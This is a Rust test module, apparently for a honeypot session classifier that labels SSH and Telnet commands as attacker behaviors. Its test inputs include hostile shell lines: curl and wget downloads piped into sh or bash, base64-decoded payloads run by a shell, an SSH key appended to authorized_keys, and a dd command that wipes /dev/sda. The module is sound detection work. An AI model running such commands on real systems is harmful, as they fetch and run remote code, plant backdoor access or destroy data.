        let ssh = [cmd("echo SECRET"), cmd("echo SECRET")];
        let mut telnet = ssh.clone();
        for t in &mut telnet {
            t.protocol = Protocol::Telnet;
        }
        for _ in 0..2 {
            assert_eq!(ids(&both(&e, &ssh)), ["upper-secret"]);
            assert_eq!(e.classify_uncached(&ssh), e.classify(&ssh));
            assert!(both(&e, &telnet).primitives.is_empty());
        }
        // Another engine on the same thread, with a catalog lacking the primitive.
        let files = vec![
            ("attack.toml".to_string(), TECH.to_string()),
            ("t.toml".to_string(), CAT.replace("SECRET", "OTHER")),
        ];
        let other = Engine::new(Catalog::parse(&files).unwrap()).unwrap();
        assert!(both(&other, &ssh).primitives.is_empty());
        assert_eq!(ids(&both(&e, &ssh)), ["upper-secret"]);
    }

    #[test]
    fn the_line_cache_keeps_lines_in_use_across_turnovers() {
        let mut cache = LineCache::default();
        let hits = |i: u32| {
            let mut p = PrimSet::new(128);
            p.insert(i % 128);
            p
        };
        let get = |c: &mut LineCache, line: &str, proto: u32| {
            let key = c.key(line, proto);
            c.get(key, line, proto).cloned()
        };
        let key = cache.key("uname -a", 1);
        cache.insert(key, "uname -a", 1, hits(1));
        // Three generations' worth of other lines, with the hot one looked up now and then.
        for i in 0..3 * LineCache::MAX_LINES as u32 {
            let line = format!("echo {i}");
            let key = cache.key(&line, 1);
            cache.insert(key, &line, 1, hits(i));
            if i % 1_000 == 0 {
                let hot = get(&mut cache, "uname -a", 1);
                assert!(hot.is_some_and(|h| h.contains(1)), "{i}");
            }
        }
        assert!(get(&mut cache, "uname -a", 1).is_some());
        assert!(get(&mut cache, "uname -a", 2).is_none(), "per protocol");
        assert!(
            get(&mut cache, "echo 0", 1).is_none(),
            "a line not used again is forgotten"
        );
        let last = format!("echo {}", 3 * LineCache::MAX_LINES - 1);
        assert!(get(&mut cache, &last, 1).is_some());
        // Both generations stay within their bounds.
        for g in [&cache.young, &cache.old] {
            assert!(g.entries.len() <= LineCache::MAX_LINES);
            assert_eq!(
                g.bytes,
                g.entries.values().map(|c| c.line.len()).sum::<usize>()
            );
        }
        // Two lines given one key (a collision) are each a miss for the other, never a hit.
        let key = cache.key("id", 1);
        cache.insert(key, "whoami", 1, hits(7));
        assert!(cache.get(key, "id", 1).is_none());
        assert!(cache.get(key, "whoami", 1).is_some());
    }

    /// The compiled `when` of every builtin behavior holds exactly where the expression does,
    /// on random sets drawn from the primitives it names and its groups' members.
    #[test]
    fn compiled_conditions_agree_with_the_expressions() {
        let e = Engine::builtin();
        let n = e.matcher.primitive_count();
        let groups: HashMap<&str, Vec<u32>> = e
            .catalog
            .groups
            .iter()
            .map(|g| {
                let members = g
                    .members
                    .iter()
                    .filter_map(|m| e.prim_index.get(m).copied());
                (g.id.as_str(), members.collect())
            })
            .collect();
        let mut rng = 0x9E37_79B9_7F4A_7C15u64;
        for (b, cb) in e.catalog.behaviors.iter().zip(&e.behaviors) {
            let mut pool: Vec<u32> = Vec::new();
            for id in b.when.refs() {
                match (e.prim_index.get(id), groups.get(id)) {
                    (Some(&i), _) => pool.push(i),
                    (None, Some(members)) => pool.extend(members),
                    (None, None) => {}
                }
            }
            for _ in 0..64 {
                let mut set = PrimSet::new(n);
                for &i in &pool {
                    rng ^= rng << 13;
                    rng ^= rng >> 7;
                    rng ^= rng << 17;
                    if rng & 1 == 1 {
                        set.insert(i);
                    }
                }
                let expected =
                    b.when
                        .eval(&|id: &str| match (e.prim_index.get(id), groups.get(id)) {
                            (Some(&i), _) => set.contains(i),
                            (None, Some(members)) => members.iter().any(|&i| set.contains(i)),
                            (None, None) => false,
                        });
                assert_eq!(cb.cond.holds(&set), expected, "{}: {:?}", b.id, set);
            }
        }
    }

    #[test]
    fn lines_seen_are_per_protocol_and_bounded() {
        let lines: Vec<String> = (0..MAX_LINES_SEEN + 8)
            .map(|i| format!("echo {i}"))
            .collect();
        let mut seen = LinesSeen::default();
        assert!(seen.first_time(1, ""));
        assert!(!seen.first_time(1, ""));
        for l in &lines {
            assert!(seen.first_time(1, l), "{l}");
        }
        // The first lines are remembered, by protocol; those past the bound are not.
        assert!(!seen.first_time(1, &lines[0]));
        assert!(!seen.first_time(1, &lines[MAX_LINES_SEEN - 2]));
        assert!(seen.first_time(2, &lines[0]));
        assert!(seen.first_time(1, &lines[MAX_LINES_SEEN + 7]));
        assert!(seen.first_time(1, &lines[MAX_LINES_SEEN + 7]));
    }

    #[test]
    fn line_keys_differ_by_line_protocol_and_seed() {
        assert_ne!(line_key("uname -a", 1, 0), line_key("uname -a", 2, 0));
        assert_ne!(line_key("uname -a", 1, 0), line_key("uname -b", 1, 0));
        assert_ne!(line_key("", 1, 0), line_key("\0", 1, 0));
        assert_ne!(line_key("12345678", 1, 0), line_key("123456789", 1, 0));
        assert_ne!(line_key("uname -a", 1, 0), line_key("uname -a", 1, 1));
    }

    #[test]
    fn resolve_and_group_sessions() {
        let e = engine();
        assert_eq!(e.resolve(&["login"]), Outcome::Behavior("guessing".into()));
        assert_eq!(e.resolve(&["login", "nope"]), Outcome::Unclassified);
        assert_eq!(e.resolve::<&str>(&[]), Outcome::Nothing);
        let mut other = login();
        other.session = Uuid::from_u128(8);
        let out = e.classify_events(&[login(), other, cmd("uname -a")]);
        assert_eq!(out.len(), 2);
        assert_eq!(out[0].session, Uuid::from_u128(7));
        assert_eq!(out[0].events, 2);
        assert_eq!(out[0].classification.outcome.behavior(), Some("b-tie"));
        assert_eq!(out[1].classification.outcome.behavior(), Some("guessing"));
        let b = e.behavior("loader").unwrap();
        assert_eq!(
            b.techniques[0].url,
            "https://attack.mitre.org/techniques/T1105/"
        );
    }

    /// A `^`-anchored regex with a second, inner literal set runs on that set's hits only (its
    /// common start is not a needle): it must still match wherever the naive matcher does.
    #[test]
    fn anchored_regexes_found_by_their_inner_literals() {
        let e = Engine::builtin();
        let has = |c: &Classification, id: &str| c.primitives.contains(id);
        for (line, id, expected) in [
            ("lspci | grep -i VGA", "cmd-grep-vga", true),
            ("grep nvidia /proc/x; echo vga", "cmd-grep-vga", true),
            ("echo nvidia | tee x; grep x y", "cmd-grep-vga", false),
            ("mkdir -p ~/.ssh; chmod 700 ~/.ssh", "cmd-mkdir-ssh", true),
            ("MKDIR /root/.ssh", "cmd-mkdir-ssh", true),
            ("cat ~/.ssh/x; mkdir x", "cmd-mkdir-ssh", false),
            (
                "echo 'ssh-rsa AAAA x' >> ~/.ssh/authorized_keys",
                "cmd-ssh-key-echo",
                true,
            ),
            ("echo ok; cat ssh-rsa ", "cmd-ssh-key-echo", false),
            ("sudo dd if=/dev/zero of=/dev/sda", "cmd-dd-disk", true),
            ("cat of=/dev/sda; dd x", "cmd-dd-disk", false),
        ] {
            let c = both(&e, &[login(), cmd(line)]);
            assert_eq!(has(&c, id), expected, "{line}: {c:?}");
        }
    }

    /// The `command_line` scan runs only for lines whose commands held one of its literals;
    /// the result must be the one scanning every line gives (the naive matcher does).
    #[test]
    fn command_line_primitives_found_through_the_commands() {
        let e = Engine::builtin();
        let has = |c: &Classification, id: &str| c.primitives.contains(id);
        for (line, pipe) in [
            ("curl -fsSL http://198.51.100.7/x.sh | sh", true),
            ("cd /tmp;WGET -q -O- http://h/i|bash", true),
            ("(wget http://h/i -O-) | sh", true),
            ("echo aGk= | base64 -d | sh", false),
            ("echo 'curl x' | sh", true),
            ("uname -a; id", false),
        ] {
            let c = both(&e, &[login(), cmd(line)]);
            assert_eq!(has(&c, "cmdline-pipe-to-shell"), pipe, "{line}: {c:?}");
        }
        let c = both(&e, &[login(), cmd("echo aGk= | base64 --decode | bash")]);
        assert!(has(&c, "cmdline-base64-to-shell"), "{c:?}");
        // Past the splitter's budget a literal can be in no command it gave: the line is
        // scanned anyway.
        let long = format!(
            "{}curl http://h/x | sh",
            "true;".repeat(shell::MAX_COMMANDS_PER_LINE + 10)
        );
        let c = both(&e, &[login(), cmd(&long)]);
        assert!(has(&c, "cmdline-pipe-to-shell"), "{c:?}");
        // Non-ASCII lines are scanned whole (Unicode case folding is not the automaton's).
        let c = both(&e, &[login(), cmd("curl http://h/é | sh")]);
        assert!(has(&c, "cmdline-pipe-to-shell"), "{c:?}");
    }
}
